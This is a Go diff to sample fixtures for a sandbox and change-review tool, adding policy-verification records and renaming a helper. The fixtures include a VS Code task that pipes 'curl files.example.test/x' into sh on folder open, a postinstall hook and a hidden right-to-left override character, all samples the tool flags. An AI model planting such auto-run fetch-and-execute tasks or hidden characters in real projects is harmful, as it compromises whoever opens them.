@@ -8,6 +8,7 @@ import (
 	"fumehood/diffreview"
 	"fumehood/isolate"
 	"fumehood/isolate/layer"
+	"fumehood/isolate/walls"
 	"fumehood/session"
 )
 
@@ -51,11 +52,20 @@ func Sample(now time.Time) *Backend {
 		{Name: "disk", Value: "not in force", How: "the workspace can fill this file system"},
 	}
 	block := "Boundary\n  process restriction: namespaces, landlock, seccomp\n  if it cannot be set up: refuses to run\nFilesystem\n  a copy of the repository, its own home, /tmp\nNetwork\n  none\n"
+	record := SampleRecord(ago(2 * time.Hour))
+	standing := walls.Stand(record, record.Shape)
+	block += "Verified\n  wall tests   proven in this shape\n  run          2026-11-30 10:41:07Z (2 hours ago) by ada\n  outcome      13 of 16 tests held\n"
+	about := session.Walls{Policy: "default", Source: "", Hash: record.PolicyHash, Block: block, Standing: standing}
+	ofSession := about
+	ofSession.Source = "/home/ada/.local/state/fumehood/sessions/a1/policy.toml"
 	details := map[string]session.Detail{}
 	for _, s := range rows {
 		d := session.Detail{
 			Files: 1204, Bytes: 18 << 20, Limits: limits, Block: block, PolicyID: "7f3a",
 			LeftOut: []diffreview.LeftOut{{Path: "node_modules", Reason: "git ignores it", Size: 412 << 20}, {Path: ".env", Reason: "looks like a secret", Size: 120}},
+		}
+		if s.Policy == "default" {
+			d.Walls = standing
 		}
 		if s.Live {
 			d.Layers = facts
@@ -93,8 +103,15 @@ func Sample(now time.Time) *Backend {
 			Use:      []string{"4 GiB memory", "2048 processes", "8 hours"},
 			Warnings: []string{"memory of all its processes together is sampled every 250 ms, not bounded by the kernel"},
 			Block:    block,
+			Walls:    standing,
 		},
-		Would: []string{"src/store/open.go", "docs/locking.md"},
+		About: map[string]session.Walls{
+			"": about, "a1": ofSession, "b2": ofSession, "c3": ofSession,
+			"d4": {Policy: "tight", Source: "/home/ada/.local/state/fumehood/sessions/d4/policy.toml", Hash: strings.Repeat("44", 32), Block: block},
+		},
+		Outcome: SampleRecord(now), Matrix: SampleMatrix(),
+		Traffic: map[string]session.Traffic{"c3": SampleTraffic(now)},
+		Would:   []string{"src/store/open.go", "docs/locking.md"},
 	}
 }
 
@@ -103,19 +120,19 @@ func SampleSet() *diffreview.ChangeSet {
 	return &diffreview.ChangeSet{
 		Session: "a1", Repo: "/home/ada/src/api-server", SnapshotAt: time.Date(2026, 11, 30, 12, 41, 7, 0, time.UTC),
 		Files: []diffreview.File{
-			addedFile(".vscode/tasks.json", "{\n\t\"version\": \"2.0.0\",\n\t\"tasks\": [{\n\t\t\"label\": \"warm\",\n\t\t\"command\": \"curl files.example.test/x | sh\",\n\t\t\"runOptions\": {\"runOn\": \"folderOpen\"}\n\t}]\n}\n",
+			AddedFile(".vscode/tasks.json", "{\n\t\"version\": \"2.0.0\",\n\t\"tasks\": [{\n\t\t\"label\": \"warm\",\n\t\t\"command\": \"curl files.example.test/x | sh\",\n\t\t\"runOptions\": {\"runOn\": \"folderOpen\"}\n\t}]\n}\n",
 				diffreview.Finding{Rule: "editor-task", Severity: diffreview.Danger, Line: 6, Why: "runs its command by itself as soon as the folder is opened in the editor"}),
 			edited("package.json", 12, []string{"  \"scripts\": {", "-    \"build\": \"tsc\"", "+    \"postinstall\": \"node setup.js\",", "+    \"build\": \"tsc\"", "   },"},
 				diffreview.Finding{Rule: "package-script", Severity: diffreview.Warn, Line: 13, Why: "runs at npm install"}),
 			twoHunks("src/store/open.go"),
-			addedFile("src/store/lock.go", "package store\n\nimport \"os\"\n\n// lock holds the store's file while it is open.\nfunc lock(f *os.File) error {\n\treturn flock(f.Fd())\n}\n"),
+			AddedFile("src/store/lock.go", "package store\n\nimport \"os\"\n\n// lock holds the store's file while it is open.\nfunc lock(f *os.File) error {\n\treturn flock(f.Fd())\n}\n"),
 			edited("src/api/routes.go", 30, []string{" \tr.Get(\"/health\", health)", "-\tr.Get(\"/stores\", list)", "+\tr.Get(\"/v1/stores\", list) ", "+\tr.Get(\"/v1/stores/:id\", \u202eget)", " }"}),
 			{
 				Path: "tools/helper", Status: diffreview.ModeOnly, Old: diffreview.Entry{Kind: diffreview.KindFile, Blob: "1"}, New: diffreview.Entry{Kind: diffreview.KindFile, Exec: true, Blob: "1"}, Whole: "mode-helper",
 				Findings: []diffreview.Finding{{Rule: "exec-bit", Severity: diffreview.Note, Why: "becomes a program"}},
 			},
 			{Path: "assets/logo.png", Status: diffreview.Modified, Binary: true, Unshown: "binary", Old: diffreview.Entry{Kind: diffreview.KindFile, Size: 4096}, New: diffreview.Entry{Kind: diffreview.KindFile, Size: 5120}, Whole: "bin-logo"},
-			addedFile("docs/locking.md", "# Locking\n\nOne process opens a store at a time.\n"),
+			AddedFile("docs/locking.md", "# Locking\n\nOne process opens a store at a time.\n"),
 			edited("go.sum", 3, []string{" a v1 h1:x", "-b v1 h1:y", "+b v2 h1:z", " c v1 h1:w"}),
 		},
 		Ignored: diffreview.IgnoredChanges{Count: 3, Paths: []string{"dist/a.js", "dist/b.js", "node_modules/x/y"}},
@@ -169,7 +186,8 @@ func twoHunks(path string) diffreview.File {
 	return f
 }
 
-func addedFile(path, text string, fs ...diffreview.Finding) diffreview.File {
+// AddedFile is a new text file in a change set.
+func AddedFile(path, text string, fs ...diffreview.Finding) diffreview.File {
 	var in []string
 	for _, l := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
 		in = append(in, "+"+l)
